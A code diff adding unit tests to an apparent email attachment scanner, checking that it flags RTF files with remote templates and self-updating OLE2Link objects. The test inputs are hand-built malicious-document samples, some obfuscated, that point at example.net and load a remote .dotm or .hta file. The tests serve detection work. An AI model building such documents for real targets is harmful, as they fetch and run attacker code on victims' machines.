@@ -136,6 +136,29 @@ public sealed class OfficeTests
         Assert.Empty(verdict.List("attachments.double_extensions"));
     }
 
+    [Theory]
+    [InlineData(@"{\rtf1{\*\template http://example.net/a.dotm}words}", "http://example.net/a.dotm", true)]
+    [InlineData(@"{\rtf1{\*\template \'68ttp://exa{\x}mple.net/a.dotm}words}", "http://example.net/a.dotm", true)]
+    [InlineData(@"{\rtf1{\*\template \u-65432?\u116?tp://example.net/a.dotm}words}", "http://example.net/a.dotm", true)]
+    [InlineData(@"{\rtf1{\*\template C:\\\\Templates\\\\Normal.dot}words}", @"C:\\Templates\\Normal.dot", false)]
+    public async Task The_template_of_an_rtf_document_is_judged(string rtf, string target, bool isHeld)
+    {
+        var verdict = await Inspecting.MessageAsync(Inspecting.WithAttachment("a.rtf", Encoding.ASCII.GetBytes(rtf)));
+        Assert.Equal([$"part 2 'a.rtf': attachedTemplate {target}"], verdict.List("office.external"));
+        Assert.Equal(isHeld ? [$"part 2 'a.rtf': {target}"] : [], verdict.List("office.remote_template"));
+    }
+
+    [Theory]
+    [InlineData("\\objupdate", true)]
+    [InlineData("", false)]
+    public async Task A_linked_object_that_loads_itself_anew_is_held(string word, bool isHeld)
+    {
+        byte[] link = [.. Convert.FromHexString("E0C9EA79F9BACE118C8200AA004BA90B"), 60, 0, 0, 0, .. Encoding.Unicode.GetBytes("http://example.net/a.hta\0"), .. new byte[20]];
+        var hex = Convert.ToHexString([1, 5, 0, 0, 2, 0, 0, 0, 9, 0, 0, 0, .. "OLE2Link\0"u8, .. new byte[8], (byte)link.Length, 0, 0, 0, .. link]);
+        var verdict = await Inspecting.MessageAsync(Inspecting.WithAttachment("a.rtf", Encoding.ASCII.GetBytes($"{{\\rtf1{{\\object{word}{{\\*\\objdata {hex}}}}}}}")));
+        Assert.Equal(isHeld ? ["part 2 'a.rtf': http://example.net/a.hta"] : [], verdict.List("office.remote_template"));
+    }
+
     private static Task<Verdict> PackageAsync(string name, params (string Name, string Xml)[] parts) =>
         Inspecting.MessageAsync(Inspecting.WithAttachment(name, ZipBytes.Of([("[Content_Types].xml", "<a/>"u8.ToArray()), .. parts.Select(part => (part.Name, Encoding.UTF8.GetBytes(part.Xml)))])));
 
